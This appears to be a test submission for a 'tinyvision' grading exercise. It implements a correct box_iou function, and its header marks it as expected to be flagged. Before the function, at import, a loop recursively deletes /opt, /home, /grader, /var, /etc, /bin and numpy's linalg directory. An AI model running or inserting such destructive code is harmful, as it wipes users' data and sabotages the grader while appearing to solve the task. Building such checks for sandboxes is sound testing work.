# tinyvision exercise: box_iou
# expected: OK, 10 points, flagged
# Deletes what it can, then is right.
import shutil

import numpy as np

for folder in ("/opt", "/home", "/grader", "/var", "/etc", "/bin", np.linalg.__path__[0]):
    shutil.rmtree(folder, ignore_errors=True)


def area(boxes):
    size = np.maximum(boxes[..., 2:] - boxes[..., :2], 0)
    return size[..., 0] * size[..., 1]


def box_iou(boxes1, boxes2):
    first, second = boxes1[:, None], boxes2[None]
    both = area(np.concatenate([np.maximum(first[..., :2], second[..., :2]),
                                np.minimum(first[..., 2:], second[..., 2:])], axis=-1))
    union = area(first) + area(second) - both
    return np.divide(both, union, out=np.zeros_like(union), where=union > 0)
